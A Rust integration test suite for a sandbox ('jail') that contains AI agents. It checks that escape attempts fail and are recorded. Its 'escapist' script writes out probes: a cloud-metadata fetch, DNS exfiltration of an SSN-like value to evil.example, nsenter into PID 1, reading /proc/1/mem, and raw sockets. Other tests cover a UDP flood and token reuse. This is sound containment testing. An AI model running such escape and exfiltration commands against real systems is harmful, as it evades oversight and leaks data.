//! `tacho run --jail`: what the agent reaches, what it does not, and that what it tried is in the record.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::process::Command;

use serde_json::Value;

use crate::place::{Place, eventually, is_root, json, signal, text};

/// Services of this machine that have nothing to do with the gateway: they answer whoever reaches them.
struct Services {
    tcp: u16,
    udp: UdpSocket,
    /// A Unix socket that anybody may connect to, and an abstract one.
    path: String,
    name: String,
}

impl Services {
    fn start(place: &Place) -> Services {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let (path, name) =
            (place.path("other.sock").display().to_string(), format!("tacho-jail-{}", place.dir.display()));
        let unix = UnixListener::bind(&path).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
        let hidden = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        let port = tcp.local_addr().unwrap().port();
        std::thread::spawn(move || tcp.incoming().for_each(|stream| answer(stream.unwrap())));
        for listener in [unix, hidden] {
            std::thread::spawn(move || listener.incoming().for_each(|stream| answer(stream.unwrap())));
        }
        Services { tcp: port, udp, path, name }
    }

    fn udp_port(&self) -> u16 {
        self.udp.local_addr().unwrap().port()
    }

    fn has_datagram(&self) -> bool {
        self.udp.recv(&mut [0; 16]).is_ok()
    }
}

fn answer(mut stream: impl Read + Write) {
    // A client that has gone is not the test's matter.
    let _ = stream.read(&mut [0; 1024]);
    let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhello");
}

/// Tries every way out, and prints `OUT: what` for each that worked.
fn escapist(place: &Place, services: &Services) -> String {
    let (dir, gateway) = (place.dir.display(), place.gateway_pid());
    let Services { tcp, path, name, .. } = services;
    let udp = services.udp_port();
    place.script(
        "escapist",
        &format!(
            r#"
try() {{ what=$1; shift; if "$@" >/dev/null 2>&1; then echo "OUT: $what"; fi; }}
web() {{ what=$1; shift; try "$what" curl -sS --max-time 5 "$@"; }}
web "another service of this machine" http://127.0.0.1:{tcp}/
web "an address" http://192.0.2.7:81/
web "an address of IPv6" 'http://[2001:db8::7]:81/'
web "the machine's own description" http://169.254.169.254/latest/meta-data/
web "a name" http://elsewhere.example/
web "a name through another resolver" --resolve '*:82:192.0.2.9' http://x.example:82/
web "a Unix socket" --unix-socket {path} http://x/
web "the control socket" --unix-socket {dir}/tacho-run/control.sock http://tacho/v1/status
web "an abstract socket" --abstract-unix-socket {name} http://x/
bash -c 'echo hello >/dev/udp/127.0.0.1/{udp}' 2>/dev/null
bash -c 'echo hello >/dev/udp/192.0.2.8/99' 2>/dev/null
try "a name that says something" getent hosts 536-22-8391.c2VjcmV0.evil.example
for n in $(seq 100); do getent hosts chunk-$n.evil.example >/dev/null; done
try "a namespace's network" unshare -Urn sh -c 'ip link set lo up; curl -sS --max-time 3 http://127.0.0.1:{tcp}/'
try "a namespace's socket" unshare -Urnmp -f curl -sS --max-time 3 --unix-socket {path} http://x/
try "mounts of the machine" unshare -Urm sh -c 'umount /etc/resolv.conf || umount -l /proc'
try "the network of the first process" nsenter -t 1 -n true
try "the gateway's network" nsenter -t {gateway} -n true
try "the first process's memory" dd if=/proc/1/mem of=/dev/null count=1
try "the first process's root" ls /proc/1/root/
try "tracing the first process" strace -p 1 -o /dev/null
try "the gateway's process" test -e /proc/{gateway}
try "a packet socket" python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'
try "the machine below" python3 -c 'import socket; socket.socket(socket.AF_VSOCK)'
try "a datagram's end aimed at a path" python3 -c 'import socket; socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)'
if grep -qv -e '^Inter' -e '^ face' -e '^ *lo:' /proc/net/dev; then echo "OUT: another interface"; fi
getent ahostsv4 localhost | grep -q '^127.0.0.1 ' || echo "BROKEN: localhost"
python3 -c 'import socket; a, b = socket.socketpair(); a.send(b"x"); assert b.recv(1) == b"x"' || echo "BROKEN: pairs"
echo finished
"#
        ),
    )
}

/// The notes of the newest run: what and detail.
fn notes(place: &Place) -> Vec<(String, String)> {
    let runs = json(&place.expect(0, &["runs", "--json"]));
    let run = runs["runs"][0]["run"].as_str().unwrap().to_owned();
    let show = json(&place.expect(0, &["show", &run, "--json"]));
    assert_eq!(show["run"]["jailed"], true, "{show}");
    let word = |note: &Value, key: &str| note[key].as_str().unwrap_or_default().to_owned();
    let notes = show["notes"].as_array().unwrap();
    notes.iter().map(|note| (word(note, "what"), word(note, "detail"))).collect()
}

fn nothing_gets_out(place: &mut Place) {
    place.init();
    place.up();
    let services = Services::start(place);
    let script = escapist(place, &services);
    // What would work, or this test would show nothing.
    let free = place.expect(0, &["run", "--agent", "escapist", "--", &script]);
    for way in ["another service of this machine", "a Unix socket", "an abstract socket"] {
        assert!(free.contains(&format!("OUT: {way}\n")), "{way} is not there without a jail: {free}");
    }
    eventually("a datagram arrives without a jail", || services.has_datagram());
    while services.has_datagram() {}

    let out = place.expect(0, &["run", "--jail", "--agent", "escapist", "--", &script]);
    assert_eq!(out, "finished\n");
    assert!(!services.has_datagram(), "a datagram left the jail");
    let notes = notes(place);
    let has = |what: &str, detail: &str| {
        let found = notes.iter().any(|(w, d)| w == what && d == detail);
        assert!(found, "{what} {detail} in {notes:#?}");
    };
    has("attempt-tcp", &format!("127.0.0.1:{}", services.tcp));
    has("attempt-tcp", "192.0.2.7:81");
    has("attempt-tcp", "192.0.2.9:82");
    has("attempt-tcp", "169.254.169.254:80");
    has("attempt-tcp", "[2001:db8::7]:81");
    has("attempt-udp", &format!("127.0.0.1:{}", services.udp_port()));
    has("attempt-udp", "192.0.2.8:99");
    has("attempt-name", "elsewhere.example");
    assert!(notes.iter().all(|(_, detail)| !detail.contains("536-22-8391")), "{notes:#?}");
    let names = notes.iter().filter(|(what, _)| what == "attempt-name").count();
    assert_eq!(names, 64, "{notes:#?}");
    let (_, totals) = notes.iter().find(|(what, _)| what == "attempts").unwrap();
    assert!(totals.contains(" names of ") && totals.ends_with("different ones are listed"), "{totals}");
    place.down();
    place.expect(0, &["verify"]);
}

#[test]
fn nothing_gets_out_of_a_jail_and_what_was_tried_is_in_the_record() {
    nothing_gets_out(&mut Place::new("jail"));
}

#[test]
fn nothing_gets_out_of_a_jail_that_was_made_without_privileges() {
    if !is_root() {
        // Then the test above is this test.
        return;
    }
    nothing_gets_out(&mut Place::of_user("user-jail", 65_533));
}

#[test]
fn a_flood_does_not_keep_a_revoked_agent_alive() {
    let mut place = Place::new("jail-flood");
    place.init();
    let token = json(&place.expect(0, &["operator", "add", "eve", "--role", "admin", "--json"]));
    place.up();
    let flood = "import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(20000): s.sendto(b'x', ('192.0.2.1', 1 + n % 9000))
t = socket.socket(); print(t.connect_ex(('192.0.2.2', 7)), os.environ['TACHO_RUN'], flush=True)
while True: s.sendto(b'x', ('192.0.2.1', 9))";
    fs::write(place.path("flood.py"), flood).unwrap();
    let mut command = place.tacho(&["run", "--jail", "--agent", "a", "--", "python3", "flood.py"]);
    let mut child = command.stdout(std::process::Stdio::piped()).spawn().unwrap();
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(child.stdout.take().unwrap()));
    let line = lines.next().unwrap().unwrap();
    let (refused, run) = line.split_once(' ').unwrap();
    assert_eq!(refused, "111");
    // What is tried is recorded as it comes, and on a busy machine later.
    eventually("an attempt in the record", || notes(&place).iter().any(|(what, _)| what == "attempt-udp"));
    let mut revoke = place.tacho(&["runs", "revoke", run, "--reason", "floods"]);
    revoke.env("TACHO_OPERATOR_TOKEN", token["token"].as_str().unwrap());
    assert!(revoke.status().unwrap().success());
    assert!(!child.wait().unwrap().success(), "a flood keeps a revoked agent alive");
    let notes = notes(&place);
    // What was not recorded when the run ended is not recorded; and never more than 64.
    let noted = notes.iter().filter(|(what, _)| what == "attempt-udp").count();
    assert!((1..=64).contains(&noted), "{notes:#?}");
    place.down();
}

#[test]
fn another_resolver_is_asked_in_vain_and_that_is_in_the_record() {
    let mut place = Place::new("jail-resolver");
    place.init();
    place.up();
    let ask = "import socket, sys
q = b'\\x07\\x08\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x07example\\x03org\\x00\\x00\\x01\\x00\\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('8.8.8.8', 53)); s.send(q)
a = s.recv(512); assert a[:2] == q[:2] and a[3] & 15 == 3, a
t = socket.create_connection(('8.8.4.4', 53), 5); t.sendall(len(q).to_bytes(2, 'big') + q)
f = t.makefile('rb'); a = f.read(int.from_bytes(f.read(2), 'big')); assert a[:2] == q[:2] and a[3] & 15 == 3, a
print('no such name')";
    fs::write(place.path("ask.py"), ask).unwrap();
    let out = place.expect(0, &["run", "--jail", "--agent", "a", "--", "python3", "ask.py"]);
    assert_eq!(out, "no such name\n");
    let notes = notes(&place);
    for (what, detail) in
        [("attempt-udp", "8.8.8.8:53"), ("attempt-tcp", "8.8.4.4:53"), ("attempt-name", "example.org")]
    {
        assert!(notes.contains(&(what.to_owned(), detail.to_owned())), "{what} {detail} in {notes:#?}");
    }
    place.down();
}

#[test]
fn a_jailed_command_ends_as_it_ends_and_tries_nothing_by_itself() {
    let mut place = Place::new("jail-status");
    place.init();
    place.up();
    place.expect(0, &["run", "--jail", "--agent", "a", "--", "true"]);
    assert_eq!(notes(&place), []);
    place.expect(7, &["run", "--jail", "--agent", "a", "--", "sh", "-c", "exit 7"]);
    place.expect(128 + 9, &["run", "--jail", "--agent", "a", "--", "sh", "-c", "kill -9 $$"]);
    let run = json(&place.expect(0, &["runs", "--json"]))["runs"][0]["run"].as_str().unwrap().to_owned();
    assert!(place.expect(0, &["who", &run]).contains("jailed"));
    place.down();
    // And with a gateway for the life of the run.
    place.expect(5, &["run", "--jail", "--agent", "a", "--", "sh", "-c", "exit 5"]);
}

#[test]
fn a_jail_that_cannot_be_made_starts_nothing() {
    let mut place = Place::new("no-jail");
    place.init();
    place.up();
    let mark = place.path("mark");
    fs::write(place.path("open"), "").unwrap();
    let run = ["run", "--jail", "--agent", "a", "--", "touch"].map(str::to_owned).to_vec();
    let tacho = || vec![env!("CARGO_BIN_EXE_tacho").to_owned()];
    // A kernel that gives no network namespace, and such that refuse one step of making a jail.
    let words = |all: &[&str]| all.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    let none = "echo 0 >/proc/sys/user/max_net_namespaces && exec \"$@\"";
    let mut ways = vec![words(&["unshare", "-Ur", "sh", "-c", none, "sh"])];
    // The last is met only when the run is there already: its sockets cannot be passed out.
    for call in ["seccomp", "bind", "mount", "sendmsg"] {
        let inject = format!("inject={call}:error=EINVAL");
        ways.push(words(&["strace", "-f", "-qq", "-o", "/dev/null", "-e", &inject]));
    }
    for way in ways {
        let mut command = Command::new(&way[0]);
        command.args(&way[1..]).args(tacho()).args(&run).arg(&mark).current_dir(&place.dir);
        command
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin")
            .env("HOME", place.path("home"));
        let done = command.output().unwrap();
        let said = text(&done.stderr);
        assert_eq!(done.status.code(), Some(3), "{way:?}: {said}");
        assert!(
            said.contains("nothing was started") || said.contains("agent was not started"),
            "{way:?}: {said}"
        );
        assert!(!mark.exists(), "{way:?}: the agent was started");
    }
    let runs = json(&place.expect(0, &["runs", "--json"]));
    assert_eq!(runs["runs"].as_array().unwrap().len(), 1, "{runs}");
    place.down();
}

#[test]
fn a_run_inside_a_jailed_run_is_in_the_same_jail() {
    let mut place = Place::new("jail-nested");
    place.init();
    let rule = "@id(\"spawns\")\npermit (principal in Agent::\"planner\", action == Action::\"spawn\", resource == Agent::\"child\");\n";
    fs::write(place.path("policy/spawn.cedar"), rule).unwrap();
    place.up();
    let tacho = place.public_binary();
    let outer = place.script(
        "outer",
        &format!("{tacho} run --jail --agent child -- sh -c 'curl -s http://192.0.2.7/; echo $TACHO_RUN'"),
    );
    let child = place.expect(0, &["run", "--jail", "--agent", "planner", "--", &outer]);
    let who = json(&place.expect(0, &["who", child.trim(), "--json"]));
    assert_eq!(
        (&who["run"]["jailed"], &who["parents"][0]["jailed"]),
        (&json("true"), &json("true")),
        "{who}"
    );
    assert_eq!(who["run"]["state"], "exited", "{who}");
    // Where there is none, none can be made.
    let refused = place.run(&["run", "--agent", "planner", "--", &outer]);
    assert_eq!(refused.status.code(), Some(3), "{}", text(&refused.stderr));
    assert!(text(&refused.stderr).contains("start the outer run with --jail"), "{}", text(&refused.stderr));
    place.down();
}

#[test]
fn an_operators_token_is_worth_nothing_in_a_jail() {
    let mut place = Place::new("jail-token");
    place.init();
    let token = json(&place.expect(0, &["operator", "add", "eve", "--role", "approver", "--json"]));
    place.up();
    let url = fs::read_to_string(place.path("tacho.toml")).unwrap();
    let console = url.lines().find_map(|l| l.strip_prefix("console = \"")).unwrap();
    let console = console.split('"').next().unwrap();
    let ask = format!(
        "curl -s -o /dev/null -w '%{{http_code}}' -H 'Authorization: Bearer {}' http://{console}/v1/approvals",
        token["token"].as_str().unwrap()
    );
    let outside = Command::new("sh").args(["-c", &ask]).output().unwrap();
    assert_eq!(text(&outside.stdout), "200", "an operator is refused outside of every run");
    let inside = place.expect(0, &["run", "--jail", "--agent", "a", "--", "sh", "-c", &ask]);
    assert_eq!(inside, "403");
    // Somebody outside is an operator as ever, while an agent is jailed and after that.
    let waits = ["run", "--jail", "--agent", "a", "--", "sh", "-c", "echo ready; sleep 600"];
    let mut jailed = place.tacho(&waits).stdout(std::process::Stdio::piped()).spawn().unwrap();
    jailed.stdout.as_mut().unwrap().read_exact(&mut [0; 6]).unwrap();
    let meanwhile = Command::new("sh").args(["-c", &ask]).output().unwrap();
    signal(jailed.id(), "TERM");
    jailed.wait().unwrap();
    let afterwards = Command::new("sh").args(["-c", &ask]).output().unwrap();
    assert_eq!((text(&meanwhile.stdout), text(&afterwards.stdout)), ("200".to_owned(), "200".to_owned()));
    place.down();
}

#[test]
fn a_signal_reaches_a_jailed_agent_and_its_callers_death_ends_it() {
    let mut place = Place::new("jail-signal");
    place.init();
    place.up();
    let script = place.script("wait", "trap 'exit 5' TERM\necho ready\nwhile :; do sleep 0.1; done");
    let start = || {
        let mut command = place.tacho(&["run", "--jail", "--agent", "a", "--", &script]);
        let mut child = command.stdout(std::process::Stdio::piped()).spawn().unwrap();
        let mut ready = [0; 6];
        child.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
        child
    };
    let mut child = start();
    signal(child.id(), "TERM");
    assert_eq!(child.wait().unwrap().code(), Some(5));
    let mut child = start();
    signal(child.id(), "KILL");
    child.wait().unwrap();
    eventually("the run is closed", || {
        let runs = json(&place.expect(0, &["runs", "--json"]));
        runs["runs"][0]["state"].as_str().unwrap().contains("interrupted")
    });
    eventually("the agent is gone", || {
        !Command::new("pgrep").args(["-f", &script]).output().unwrap().status.success()
    });
    place.down();
}
